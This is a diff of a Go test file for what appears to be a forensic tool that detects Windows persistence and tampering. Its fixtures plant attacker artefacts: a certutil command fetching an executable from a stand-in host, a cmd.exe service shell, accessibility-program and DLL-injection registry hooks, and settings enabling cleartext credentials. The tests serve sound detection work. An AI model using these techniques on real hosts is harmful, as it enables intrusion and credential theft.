@@ -3,15 +3,9 @@ package postern_test
 import (
 	"bytes"
 	"encoding/binary"
-	"io"
-	"os"
-	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
-	"unicode/utf16"
-
-	"github.com/ulikunitz/xz"
 
 	"postern/evidence/evidencetest"
 )
@@ -57,17 +51,10 @@ func cached(path, id, command, arguments string, more ...entry) []entry {
 	return append(all, more...)
 }
 
-func utf16Bytes(text string) (b []byte) {
-	for _, u := range utf16.Encode([]rune(text)) {
-		b = binary.LittleEndian.AppendUint16(b, u)
-	}
-	return b
-}
-
 // action is the Actions value of a task with one program.
 func action(program, arguments string) []byte {
 	text := func(s string) []byte {
-		w := utf16Bytes(s)
+		w := evidencetest.Wide(s)
 		return append(binary.LittleEndian.AppendUint32(nil, uint32(len(w))), w...)
 	}
 	return slices.Concat([]byte{3, 0}, text("Author"), []byte{0x66, 0x66}, text(""), text(program), text(arguments), text(""), []byte{0, 0})
@@ -80,9 +67,9 @@ var plantedWindows = []mark{
 	{"start.system-name-elsewhere", "conhost.exe", service("NetConsole", `C:\ProgramData\conhost.exe tunnel run --token abc`)},
 	{"start.program-in-odd-folder", "yuze.dll", service("YuzeNet", `rundll32.exe C:\ProgramData\yuze.dll,RunYuze`)},
 	{"start.service-is-a-shell", "BTOBTO", service("BTOBTO", `%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat`)},
-	{"start.remote-execution", "PSEXESVC", service("PSEXESVC", `%SystemRoot%\PSEXESVC.exe`)},
+	{"start.remote-administration", "PSEXESVC", service("PSEXESVC", `%SystemRoot%\PSEXESVC.exe`)},
 	{"start.remote-execution", "kqzvbnrt", service("kqzvbnrt", `%systemroot%\kqzvbnrt.exe`)},
-	{"start.service-library-elsewhere", "n.dll", service("NetSvcX", `%SystemRoot%\System32\svchost.exe -k netsvcs`, entry{"SYSTEM", `Services\NetSvcX\Parameters`, "ServiceDll", `C:\Net\n.dll`})},
+	{"start.service-library-elsewhere", "n.dll", service("NetSvcX", `%SystemRoot%\System32\svchost.exe -k netsvcs`, entry{"SYSTEM", `Services\NetSvcX\Parameters`, "ServiceDll", `C:\Drop\n.dll`})},
 	{"tool.remote-access", "SimpleHelp", service("Remote Access Service", `"C:\ProgramData\JWrapper-Remote Access\JWAppsSharedConfig\SimpleService.exe"`)},
 	{"start.program-in-temporary-folder", "meshagent", service("Mesh Agent", `C:\Users\Public\meshagent.exe`)},
 	{"start.suspicious-command", "when it", service("Reporter", `C:\Program Files\Reporter\r.exe`, entry{"SYSTEM", `Services\Reporter`, "FailureCommand", encoded + " #when it fails"})},
@@ -90,10 +77,10 @@ var plantedWindows = []mark{
 	{"start.unknown-lsa-package", "mimilib", system(`Control\Lsa`, "Security Packages", []string{"", "mimilib"})},
 	{"start.unknown-lsa-package", "pwfilter", system(`Control\Lsa`, "Notification Packages", []string{"scecli", "pwfilter"})},
 	{"setting.port-forwarded", "10.0.0.5", system(`Services\PortProxy\v4tov4\tcp`, "0.0.0.0/8443", "10.0.0.5/3389")},
-	{"start.unknown-system-library", "net/pm.dll", system(`Control\Print\Monitors\Net`, "Driver", `C:\Net\pm.dll`)},
+	{"start.unknown-system-library", "drop/pm.dll", system(`Control\Print\Monitors\Net`, "Driver", `C:\Drop\pm.dll`)},
 	{"start.print-library", "mon64", system(`Control\Print\Monitors\Update`, "Driver", "mon64.dll")},
 	{"start.unknown-system-library", "tp.dll", system(`Services\W32Time\TimeProviders\Upd`, "DllName", `C:\Users\anna\tp.dll`)},
-	{"start.library-in-every-program", "AppCertDlls", system(`Control\Session Manager\AppCertDlls`, "Default", `C:\Net\c.dll`)},
+	{"start.library-in-every-program", "AppCertDlls", system(`Control\Session Manager\AppCertDlls`, "Default", `C:\Drop\c.dll`)},
 	{"start.unknown-system-library", "BootExecute", system(`Control\Session Manager`, "BootExecute", []string{"autocheck autochk *", "bootx"})},
 	{"setting.passwords-in-memory", "UseLogonCredential", system(`Control\SecurityProviders\WDigest`, "UseLogonCredential", uint32(1))},
 	{"setting.logon-by-hash", "DisableRestrictedAdmin", system(`Control\Lsa`, "DisableRestrictedAdmin", uint32(0))},
@@ -101,9 +88,9 @@ var plantedWindows = []mark{
 	{"start.program-in-odd-folder", "main.exe", software(runKey+"Run", "Remote", `C:\ProgramData\main.exe`)},
 	{"start.suspicious-command", "SQBFAFg", software(`WOW6432Node\`+runKey+"RunOnce", "!up", encoded)},
 	{"start.accessibility-program-replaced", "sethc.exe", software(ntKey+`Image File Execution Options\sethc.exe`, "Debugger", `C:\Windows\System32\cmd.exe`)},
-	{"start.debugger-set", "SilentProcessExit", software(ntKey+`SilentProcessExit\MailService.exe`, "MonitorProcess", `C:\Net\m.exe`)},
-	{"start.winlogon-changed", "Userinit", software(ntKey+"Winlogon", "Userinit", `C:\Windows\system32\userinit.exe,C:\Net\y.exe`)},
-	{"start.library-in-every-program", "AppInit", append(software(ntKey+"Windows", "AppInit_DLLs", `C:\Net\i.dll`), software(ntKey+"Windows", "LoadAppInit_DLLs", uint32(1))...)},
+	{"start.debugger-set", "SilentProcessExit", software(ntKey+`SilentProcessExit\MailService.exe`, "MonitorProcess", `C:\Drop\m.exe`)},
+	{"start.winlogon-changed", "Userinit", software(ntKey+"Winlogon", "Userinit", `C:\Windows\system32\userinit.exe,C:\Drop\y.exe`)},
+	{"start.library-in-every-program", "AppInit", append(software(ntKey+"Windows", "AppInit_DLLs", `C:\Drop\i.dll`), software(ntKey+"Windows", "LoadAppInit_DLLs", uint32(1))...)},
 	{"start.unknown-system-library", "h.dll", software(`Microsoft\NetSh`, "helper", `C:\ProgramData\h.dll`)},
 	{"start.program-in-temporary-folder", "PerfLogs", software(`Microsoft\Active Setup\Installed Components\{A}`, "StubPath", `C:\PerfLogs\s.exe`)},
 	{"start.program-in-temporary-folder", "ar.bat", software(`Microsoft\Command Processor`, "AutoRun", `C:\Users\Public\ar.bat`)},
@@ -130,14 +117,14 @@ var plantedWindows = []mark{
 
 // shimmed is the value of a ShimCache of Windows 10 with one program.
 func shimmed(path string) []byte {
-	w := utf16Bytes(path)
+	w := evidencetest.Wide(path)
 	body := slices.Concat(binary.LittleEndian.AppendUint16(nil, uint16(len(w))), w, make([]byte, 12))
 	return slices.Concat([]byte{0x34}, make([]byte, 0x33), []byte("10ts"), make([]byte, 4), binary.LittleEndian.AppendUint32(nil, uint32(len(body))), body)
 }
 
 // recycledIndex is an index of the recycle bin for a file.
 func recycledIndex(path string) string {
-	return "\x02" + strings.Repeat("\x00", 23) + string(append(binary.LittleEndian.AppendUint32(nil, uint32(len(path))), utf16Bytes(path)...))
+	return "\x02" + strings.Repeat("\x00", 23) + string(append(binary.LittleEndian.AppendUint32(nil, uint32(len(path))), evidencetest.Wide(path)...))
 }
 
 // plantedFiles are files of the same host.
@@ -147,7 +134,7 @@ var plantedFiles = []struct{ path, text, rule, says string }{
 	{"Windows/System32/inetsrv/config/applicationHost.config", `<configuration><system.webServer><globalModules><add name="HttpFast" image="C:\inetpub\temp\m.dll" /></globalModules></system.webServer></configuration>`, "start.web-server-module", "m.dll"},
 	{"Users/anna/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "whoami\r\ncertutil -urlcache -f http://192.0.2.9/a.exe a.exe\r\n", "trace.suspicious-command", "certutil"},
 	{"$Recycle.Bin/S-1-5-21-1-2-3-1001/$IAAAAAA.aspx", recycledIndex(`C:\inetpub\wwwroot\gone.aspx`), "trace.ran-in-temporary-folder", "gone.aspx"},
-	{"ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/02/A", string(utf16Bytes("Backdoor:ASP/Chopper.A!dha")) + "\x00\x00\x00\x00" + string(utf16Bytes(`C:\inetpub\wwwroot\m.aspx`)) + "\x00\x00", "trace.defender-found", "Chopper"},
+	{"ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/02/A", string(evidencetest.Wide("Backdoor:ASP/Chopper.A!dha")) + "\x00\x00\x00\x00" + string(evidencetest.Wide(`C:\inetpub\wwwroot\m.aspx`)) + "\x00\x00", "trace.defender-found", "Chopper"},
 	{"Windows/System32/drivers/etc/hosts", "127.0.0.1 wdcp.microsoft.com\r\n", "setting.guard-redirected", "wdcp"},
 }
 
@@ -270,7 +257,7 @@ func localAccount(rid, name string, control uint16) []entry {
 	binary.LittleEndian.PutUint16(f[0x38:], control)
 	binary.LittleEndian.PutUint32(v[0x10:], uint32(2*len(name)))
 	key := `SAM\Domains\Account\Users\` + rid
-	return []entry{{"SAM", key, "F", f}, {"SAM", key, "V", append(v, utf16Bytes(name)...)},
+	return []entry{{"SAM", key, "F", f}, {"SAM", key, "V", append(v, evidencetest.Wide(name)...)},
 		{"SAM", `SAM\Domains\Account`, "V", slices.Concat(make([]byte, 12), []byte{1, 0, 0, 0, 2, 0, 0, 0, 3, 0, 0, 0})}}
 }
 
@@ -332,7 +319,7 @@ func TestLawfulWindowsIsQuiet(t *testing.T) {
 // was entered, the sample that its maker put into a user's hive, and a key that keeps
 // the event log silent (made to format ReFS).
 var realHosts = map[string][]string{
-	"SYSTEM":             {"start.remote-execution PSEXESVC", "setting.passwords-in-memory UseLogonCredential", "start.program-in-odd-folder not_a_malware"},
+	"SYSTEM":             {"start.remote-administration PSEXESVC", "setting.passwords-in-memory UseLogonCredential", "start.program-in-odd-folder not_a_malware"},
 	"SYSTEM_2":           {"start.program-in-odd-folder not_a_malware"},
 	"SYSTEM_B":           {"start.program-in-odd-folder not_a_malware"},
 	"SYSTEM_WIN_10_1709": {"start.program-in-odd-folder not_a_malware", "setting.logging-off MiniNt"},
@@ -341,22 +328,7 @@ var realHosts = map[string][]string{
 // TestRealHivesAreQuiet: of what starts, settings and accounts of real hosts nothing
 // else is more than low.
 func TestRealHivesAreQuiet(t *testing.T) {
-	real := func(name string) string {
-		f, err := os.Open(filepath.Join("..", "shared", "corpora", "registry", name+".xz"))
-		if err != nil {
-			t.Skip("corpora/registry is not here")
-		}
-		defer f.Close()
-		r, err := xz.NewReader(f)
-		if err != nil {
-			t.Fatal(err)
-		}
-		data, err := io.ReadAll(r)
-		if err != nil {
-			t.Fatal(err)
-		}
-		return string(data)
-	}
+	real := func(name string) string { return string(evidencetest.Corpus(t, "registry/"+name)) }
 	users := map[string]string{}
 	for _, name := range []string{"NTUSER.DAT", "NTUSER_BAGMRU.DAT", "NTUSER-WSL.DAT", "NTUSER_with_winscp.DAT", "NTUSER_modified.DAT"} {
 		users[name] = real(name)
